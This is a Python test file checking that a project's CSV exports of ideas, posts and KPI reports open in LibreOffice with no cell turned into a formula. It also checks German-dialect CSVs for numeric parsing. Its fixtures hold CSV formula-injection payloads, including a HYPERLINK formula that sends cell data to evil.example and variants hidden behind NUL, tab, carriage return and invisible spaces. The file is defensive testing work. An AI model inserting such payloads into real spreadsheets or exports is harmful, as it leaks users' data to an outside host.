"""The exported CSVs opened by a real spreadsheet: LibreOffice (headless) converts the ideas and
posts exports to .xlsx and .ods, and not one cell of either comes out as a formula, whatever the
hostile titles, descriptions and bodies start with. A CSV in the German dialect ("Excel (Germany)")
opens with LibreOffice's German CSV import into columns, its decimal-comma numbers as numbers."""

from __future__ import annotations

import datetime as dt
import shutil
import subprocess
import uuid
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from core import exports, i18n
from core.content_plan import files as post_files
from core.ideas import files as idea_files
from core.kpis import report
from core.kpis.overview import compute_kpis
from core.kpis.periods import Period
from db.models import PostStatus
from tests.conftest import require_or_skip
from tests.core.kpis.arrange import NOW, WEEK, answered, berlin
from tests.factories import make_idea, make_ready_post

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
PAYLOAD = 'HYPERLINK("http://evil.example/?d="&B2,"Open")'
# What a hostile cell may start with: the formula characters, and what hides them (NUL, tab,
# a bare carriage return, a no-break space, a zero-width space).
HOSTILE = {
    "equals": "=" + PAYLOAD,
    "plus": "+" + PAYLOAD,
    "minus": "-2+3+" + PAYLOAD,
    "at": "@SUM(1,2)+" + PAYLOAD,
    "nul": "\x00=" + PAYLOAD,
    "nul then space": "\x00 =" + PAYLOAD,
    "tab": "\t=" + PAYLOAD,
    "carriage return": "\r=" + PAYLOAD,
    "carriage return inside": "Fine title\r=" + PAYLOAD,
    # Without a comma or quote the cell is not quoted for them: a bare CR must still not end the row.
    "bare carriage return": "\r=1+EVIL",
    "bare carriage return inside": "Fine title\r=1+EVIL",
    "no-break space": "\u00a0=" + PAYLOAD,
    "zero-width space": "\u200b=" + PAYLOAD,
}
ODS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _hostile(backend: str) -> dict[str, str]:
    # PostgreSQL refuses NUL in text outright, so rows holding it exist only on SQLite (data from
    # before the input check); every other start is stored on both.
    return {k: v for k, v in HOSTILE.items() if backend == "sqlite" or "\x00" not in v}


def _convert(csv_files: list[Path], target: str, folder: Path) -> list[Path]:
    """LibreOffice's own CSV import (comma, double quote, UTF-8; formulas evaluated as by default)."""
    profile = folder / f"profile-{uuid.uuid4().hex}"  # parallel runs must not share a profile
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            target,
            "--outdir",
            str(folder),
            *map(str, csv_files),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    converted = [folder / f"{f.stem}.{target}" for f in csv_files]
    assert all(p.exists() for p in converted), f"LibreOffice wrote no .{target}"
    return converted


def _xlsx_cells(path: Path) -> list[tuple[str, str]]:
    """(data type, value) of every non-empty cell; formulas have type "f"."""
    sheet = openpyxl.load_workbook(path).active
    return [(c.data_type, str(c.value)) for row in sheet.iter_rows() for c in row if c.value is not None]


def _ods_cells(path: Path) -> list[tuple[str, str]]:
    """("f" or "s", text) of every non-empty cell of the .ods content; "f" when the cell has a formula."""
    root = ElementTree.fromstring(zipfile.ZipFile(path).read("content.xml"))
    cells = []
    for cell in root.iter(f"{{{ODS['table']}}}table-cell"):
        text = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{ODS['text']}}}p"))
        formula = cell.get(f"{{{ODS['table']}}}formula")
        repeated = int(cell.get(f"{{{ODS['table']}}}number-columns-repeated", "1"))  # equal neighbours
        if text or formula:
            cells.extend([("f" if formula else "s", text)] * repeated)
    return cells


@pytest.fixture
def hostile_rows(session, backend, team, channel):
    """Ideas and posts whose title and description/body start with each hostile text."""
    texts = _hostile(backend)
    at = dt.datetime(2031, 3, 3, 9, tzinfo=dt.UTC)
    for n, text in enumerate(texts.values()):
        make_idea(session, title=text, description=text, category=text)
        make_ready_post(
            session,
            channel=channel,
            title=text,
            body=text,
            partner=text,
            status=PostStatus.scheduled,
            scheduled_at=at + dt.timedelta(hours=n),
            owner_id=team["lead"].id,
        )
    session.commit()
    return texts


def test_no_exported_cell_becomes_a_formula_in_libreoffice(write, team, hostile_rows, tmp_path):
    require_or_skip(SOFFICE is not None, "LibreOffice is missing (apt-get install libreoffice-calc-nogui)")
    with write() as s:
        ideas = idea_files.export_csv(session=s, actor=team["analyst"])
        posts = post_files.export_posts_csv(
            session=s,
            actor=team["analyst"],
            start=dt.datetime(2031, 3, 1, tzinfo=dt.UTC),
            end=dt.datetime(2031, 4, 1, tzinfo=dt.UTC),
        )
    sources = [tmp_path / "ideas.csv", tmp_path / "posts.csv"]
    for path, text in zip(sources, (ideas, posts), strict=True):
        path.write_text(text, encoding="utf-8", newline="")

    for path in _convert(sources, "xlsx", tmp_path):
        cells = _xlsx_cells(path)
        assert [c for c in cells if c[0] == "f"] == [], f"{path.name} has formula cells"
        _assert_every_payload_arrived_as_text(cells, hostile_rows, path.name)
    for path in _convert(sources, "ods", tmp_path):
        cells = _ods_cells(path)
        assert [c for c in cells if c[0] == "f"] == [], f"{path.name} has formula cells"
        _assert_every_payload_arrived_as_text(cells, hostile_rows, path.name)


def _assert_every_payload_arrived_as_text(cells: list[tuple[str, str]], hostile: dict[str, str], name: str) -> None:
    """The hostile texts are in the sheet, each in its own row's cells (so the test did not pass
    on an empty or cut sheet): as many title cells holding the payload as there are hostile rows."""
    holding = [value for _, value in cells if "evil" in value.lower()]
    # ideas: title, description, category; posts: title, body, partner — three cells per row.
    assert len(holding) == 3 * len(hostile), f"{name}: {len(holding)} cells hold the payload"


# --- the German spreadsheet dialect ("Excel (Germany)": semicolon, decimal comma, UTF-8 with BOM) --

# LibreOffice's CSV import as German Excel users open the file: semicolon (59), double quote (34),
# UTF-8 (76), from line 1, default column formats, German locale (1031) for the decimal comma.
GERMAN_CSV_FILTER = "CSV:59,34,76,1,,1031"


def _convert_with(csv_file: Path, target: str, folder: Path, in_filter: str) -> Path:
    profile = folder / f"profile-{uuid.uuid4().hex}"
    subprocess.run(
        [
            str(SOFFICE),
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            f"--infilter={in_filter}",
            "--convert-to",
            target,
            "--outdir",
            str(folder),
            str(csv_file),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    converted = folder / f"{csv_file.stem}.{target}"
    assert converted.exists(), f"LibreOffice wrote no .{target}"
    return converted


def _xlsx_rows(path: Path) -> list[list[tuple[str, object]]]:
    """(data type, value) of every cell, row by row (type "n": a number, "s": text, "f": a formula)."""
    sheet = openpyxl.load_workbook(path).active
    return [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]


def test_a_csv_in_the_german_dialect_opens_with_numbers_as_numbers_and_formulas_as_text(tmp_path):
    require_or_skip(SOFFICE is not None, "LibreOffice is missing (apt-get install libreoffice-calc-nogui)")
    figures = [(79.9, 26000, -2.5), (0.05, 1234567, 12.75), (100.0, 0, -0.125)]
    rows = [
        {"title": text, "share": share, "count": count, "change": change}
        for n, text in enumerate(HOSTILE.values())
        for share, count, change in [figures[n % len(figures)]]
    ]
    text = exports.to_csv(rows, ["title", "share", "count", "change"], dialect=exports.Dialect.excel_de)
    assert text.startswith("\ufefftitle;share;count;change\r\n")
    assert ";79,9;26000;-2,5\r\n" in text
    source = tmp_path / "german.csv"
    source.write_bytes(text.encode("utf-8"))

    sheet = _xlsx_rows(_convert_with(source, "xlsx", tmp_path, GERMAN_CSV_FILTER))
    assert [(kind, value) for kind, value in sheet[0]] == [
        ("s", "title"),
        ("s", "share"),
        ("s", "count"),
        ("s", "change"),
    ]
    body = sheet[1:]
    assert len(body) == len(HOSTILE)  # no cell broke its row, none was cut
    for cells, row in zip(body, rows, strict=True):
        (title_type, title), *numbers = cells
        assert title_type == "s" and "evil" in str(title).lower(), cells
        assert [kind for kind, _value in numbers] == ["n", "n", "n"], cells
        assert [value for _kind, value in numbers] == [
            pytest.approx(row["share"]),
            row["count"],
            pytest.approx(row["change"]),
        ]
    assert not [cell for cells in sheet for cell in cells if cell[0] == "f"]
    holding = [value for cells in body for _kind, value in cells if "evil" in str(value).lower()]
    assert len(holding) == len(HOSTILE)

    ods = _ods_cells(_convert_with(source, "ods", tmp_path, GERMAN_CSV_FILTER))
    assert [c for c in ods if c[0] == "f"] == []
    assert len([value for _kind, value in ods if "evil" in value.lower()]) == len(HOSTILE)


def test_the_kpi_report_in_the_german_dialect_opens_with_every_figure_a_number(session, write, team, channel, tmp_path):
    require_or_skip(SOFFICE is not None, "LibreOffice is missing (apt-get install libreoffice-calc-nogui)")
    for business, calendar in ((7.5, 9), (12, 95), (31.25, 200)):
        answered(session, channel, at=berlin(4, 10), business=business, calendar=calendar)
    session.commit()
    with write() as s, i18n.using("de"):
        text = report.export_report(
            session=s,
            actor=team["analyst"],
            period=Period(*WEEK),
            channel=None,
            file_format="csv",
            now=NOW,
            dialect="excel_de",
        )
        values = {v.key: v for v in compute_kpis(s, start=WEEK[0], end=WEEK[1], channel_id=None, now=NOW)}
    source = tmp_path / "kpis.csv"
    source.write_bytes(text.encode("utf-8"))
    sheet = _xlsx_rows(_convert_with(source, "xlsx", tmp_path, GERMAN_CSV_FILTER))
    header = [value for _kind, value in sheet[0]]
    key_at, label_at, value_at = header.index("key"), header.index("label"), header.index("value")
    by_key = {row[key_at][1]: row for row in sheet[1:]}
    assert set(by_key) == set(values)
    median = by_key["first_response_median"]
    assert median[label_at] == ("s", "Erste Antwort (Median)")
    assert median[value_at] == ("n", pytest.approx(12.0))
    assert values["first_response_median_calendar"].value == pytest.approx(95.0)
    numeric = [key for key, v in values.items() if v.value is not None]
    assert "sla_share" in numeric or "first_response_p90" in numeric
    for key in numeric:
        kind, value = by_key[key][value_at]
        assert kind == "n" and value == pytest.approx(values[key].value), key
    assert not [cell for cells in sheet for cell in cells if cell[0] == "f"]
